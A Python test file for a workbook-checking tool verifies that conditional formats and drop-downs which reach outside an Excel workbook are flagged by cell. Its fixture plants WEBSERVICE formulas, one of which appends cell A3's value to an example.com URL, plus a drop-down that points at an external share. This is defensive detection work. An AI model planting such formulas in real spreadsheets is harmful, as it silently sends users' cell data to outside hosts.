"""Conditional formats and drop-downs of a workbook that reach out of it."""

from io import BytesIO

import openpyxl
from builder import clean_plan
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation

from plan_workbook.checking.report import check
from plan_workbook.reading import read_plan


def test_a_conditional_format_or_drop_down_that_reaches_out_is_named_with_its_cell():
    book = openpyxl.load_workbook(BytesIO(clean_plan().template()))
    sheet = book["R01"]
    sheet.conditional_formatting.add("Y1:Y9", FormulaRule(formula=['WEBSERVICE("http://example.com/"&A3)="1"']))
    sheet.conditional_formatting.add("Z5", FormulaRule(formula=['WEBSERVICE("http://example.com")=2']))
    choices = DataValidation(type="list", formula1="'//share/[b.xlsx]S'!$A$1:$A$3", sqref="Y3")
    sheet.data_validations.dataValidation.insert(0, choices)
    saved = BytesIO()
    book.save(saved)
    findings = [each for each in check(read_plan(saved.getvalue())).findings if each.rule == "external-link"]
    said = {each.cell: each.message for each in findings}
    does = "A conditional format or drop-down of this cell reaches out of the workbook as soon as Excel may work it out"
    assert said == {
        "Y1": f"{does}: 'WEBSERVICE'. Others on this sheet are at Z5.",
        "Y3": f"{does}: '//share/b.xlsx'.",
    }
    assert all("Data > Data Validation" in each.fix and "agree to nothing" in each.fix for each in findings)
